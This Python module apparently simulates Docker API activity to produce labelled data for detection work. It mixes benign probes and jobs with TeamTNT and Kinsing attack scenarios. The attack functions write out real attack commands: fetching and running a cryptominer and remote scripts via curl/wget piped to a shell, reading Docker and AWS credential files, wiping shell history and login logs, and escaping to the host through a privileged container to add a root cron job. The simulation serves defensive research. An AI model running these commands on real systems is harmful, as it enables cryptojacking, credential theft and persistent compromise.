"""A simulated Docker host: API calls as ops, benign background and the TeamTNT / Kinsing attacks."""

from __future__ import annotations

import base64
import heapq
import random
from collections.abc import Iterator

from .ops import Container, DockerCall, DockerCreate, DockerExec, DockerRemove, Label, benign, rand_hex, rand_suffix

DockerOp = DockerExec | DockerCreate | DockerRemove | DockerCall


def k8s_container(rng: random.Random, pod: str, ns: str, name: str, image: str) -> Container:
    uid = f"{rand_hex(rng, 8)}-{rand_hex(rng, 4)}-{rand_hex(rng, 4)}-{rand_hex(rng, 4)}-{rand_hex(rng, 12)}"
    labels = {
        "annotation.io.kubernetes.container.hash": rand_hex(rng, 8),
        "annotation.io.kubernetes.container.restartCount": "0",
        "io.kubernetes.container.logpath": f"/var/log/pods/{ns}_{pod}_{uid}/{name}/0.log",
        "io.kubernetes.container.name": name,
        "io.kubernetes.docker.type": "container",
        "io.kubernetes.pod.name": pod,
        "io.kubernetes.pod.namespace": ns,
        "io.kubernetes.pod.uid": uid,
        "io.kubernetes.sandbox.id": rand_hex(rng),
    }
    return Container(rand_hex(rng), f"k8s_{name}_{pod}_{ns}_{uid}_0", image, labels)


class Host:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        compose = {"com.docker.compose.project": "shop"}
        self.web = Container(rand_hex(rng), "web", "nginx:1.27.2", {**compose, "com.docker.compose.service": "web"})
        self.api = Container(rand_hex(rng), "api", "registry.example.com/shop/api:2.4.1",
                             {**compose, "com.docker.compose.service": "api"})
        self.redis = Container(rand_hex(rng), "redis", "redis:7.4", {**compose, "com.docker.compose.service": "redis"})
        self.pg = k8s_container(rng, f"postgres-{rand_suffix(rng)}", "payments", "postgres", "postgres:16.4")
        self.running = [self.web, self.api, self.redis, self.pg]


def background(rng: random.Random, h: Host, n: int, mean_gap: float) -> Iterator[DockerOp]:
    t = 0.0
    kinds = ["probe_pg", "probe_redis", "ps", "admin_exec", "job", "health_web"]
    weights = [30, 25, 20, 5, 4, 16]
    emitted = 0
    pending: list[tuple[float, int, DockerOp]] = []  # later ops of a story wait here until their time comes
    while emitted < n:
        t += rng.expovariate(1 / mean_gap)
        while pending and pending[0][0] <= t:
            yield heapq.heappop(pending)[2]
        kind = rng.choices(kinds, weights)[0]
        if kind == "probe_pg":
            ops: list[DockerOp] = [DockerExec(benign("exec liveness probe"), t, h.pg, ["pg_isready", "-U", "postgres", "-h", "127.0.0.1"],
                                              rand_hex(rng), ref=h.pg.id, duration=0.03)]
        elif kind == "probe_redis":
            ops = [DockerExec(benign("healthcheck"), t, h.redis, ["/bin/sh", "-c", "redis-cli ping | grep PONG"], rand_hex(rng),
                              ref=h.redis.id, duration=0.02)]
        elif kind == "health_web":
            ops = [DockerExec(benign("healthcheck"), t, h.web, ["/bin/sh", "-c", "curl -fs http://localhost/healthz || exit 1"],
                              rand_hex(rng), ref=h.web.id, duration=0.02)]
        elif kind == "ps":
            ops = [DockerCall(benign("monitoring poll"), t, "GET", "/containers/json")]
        elif kind == "admin_exec":
            argv = rng.choice([["ls", "-la", "/var/log/nginx"], ["cat", "/etc/nginx/conf.d/default.conf"], ["sh"], ["nginx", "-t"]])
            tty = argv == ["sh"]
            ops = [DockerCall(benign("docker exec"), t, "GET", f"/containers/{h.web.name}/json"),
                   DockerExec(benign("docker exec"), t + 0.003, h.web, argv, rand_hex(rng), tty=tty, ref=h.web.name,
                              duration=rng.uniform(60, 300) if tty else 0.05)]
        else:  # a one-off job container
            job = Container(rand_hex(rng), f"backup-{rand_suffix(rng)}", "registry.example.com/ops/backup:1.3", {"job": "backup"})
            ops = [DockerCreate(benign("backup job"), t, job, ["backup", "--target", "s3://backups/shop"], network_mode="default"),
                   DockerRemove(benign("backup job"), t + rng.uniform(5, 30), job, exit_code=0)]
        for op in ops:
            emitted += 1
            heapq.heappush(pending, (op.t, emitted, op))
    while pending:
        yield heapq.heappop(pending)[2]


def _m(step: str, scenario: str = "teamtnt", proc: str = "G0139") -> Label:
    return Label(True, scenario, proc, step)


def teamtnt(rng: random.Random, h: Host, t: float) -> list[DockerOp]:
    ops: list[DockerOp] = [DockerCall(_m("discover containers"), t, "GET", "/containers/json", api="v1.24")]
    miner_url = "http://198.51.100.23/bin/xmrig"
    wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
    drop = ("curl -sLk -o /tmp/.x/xmrig " + miner_url + " || wget -q -O /tmp/.x/xmrig " + miner_url)
    stage = base64.b64encode(b"curl -sLk http://198.51.100.23/cmd/init.sh | bash").decode()
    for ctr in (h.web, h.api, h.redis):
        t += rng.uniform(0.5, 3)
        steps = [
            ("download miner", ["sh", "-c", f"mkdir -p /tmp/.x; {drop}; chmod +x /tmp/.x/xmrig"], "", False, True),
            ("run miner", ["sh", "-c", "nohup /tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 "
                            f"-u {wallet} --donate-level 1 >/dev/null 2>&1 &"], "", False, True),
            ("staged payload", ["sh", "-c", f"echo {stage} | base64 -d | bash"], "", False, True),
            ("steal credentials", ["sh", "-c", "cat /root/.docker/config.json /root/.aws/credentials 2>/dev/null; "
                                                "env | grep -i -E 'aws|secret|token'"],
             "0", True, False),
            ("wipe history", ["sh", "-c", "history -c; rm -f ~/.bash_history /root/.ash_history; unset HISTFILE; "
                                           "cat /dev/null > /var/log/wtmp"],
             "", False, False),
        ]
        for step, argv, user, priv, detach in steps:
            t += rng.uniform(0.2, 2)
            ops.append(DockerExec(_m(step), t, ctr, argv, rand_hex(rng), user=user, privileged=priv, detach=detach, api="v1.24", ref=ctr.id,
                                  exit_code=0 if detach or step != "steal credentials" else 1, duration=rng.uniform(0.05, 2)))
    t += rng.uniform(2, 10)
    esc = Container(rand_hex(rng), rand_suffix(rng, 10), "alpine:3.20", {})
    ops.append(DockerCreate(_m("escape to host"), t, esc, ["chroot", "/host", "sh", "-c",
                                                             "echo '* * * * * root curl -sLk http://198.51.100.23/cron.sh | sh' "
                                                             ">> /etc/crontab"],
                            binds=["/:/host"], privileged=True, api="v1.24"))
    ops.append(DockerRemove(_m("escape to host"), t + rng.uniform(1, 3), esc, exit_code=0, api="v1.24"))
    return ops


def kinsing(rng: random.Random, h: Host, t: float) -> list[DockerOp]:
    ctr = Container(rand_hex(rng), f"ubuntu-{rand_suffix(rng)}", "ubuntu:22.04", {})
    return [DockerCreate(Label(True, "kinsing", "S0599", "create container with downloader entrypoint"), t, ctr,
                         ["-c", "apt-get update && apt-get install -y wget cron; wget -q -O - http://203.0.113.66/d.sh | sh"],
                         entrypoint=["bash"], api="v1.40")]


ATTACKS = {"teamtnt": teamtnt, "kinsing": kinsing}
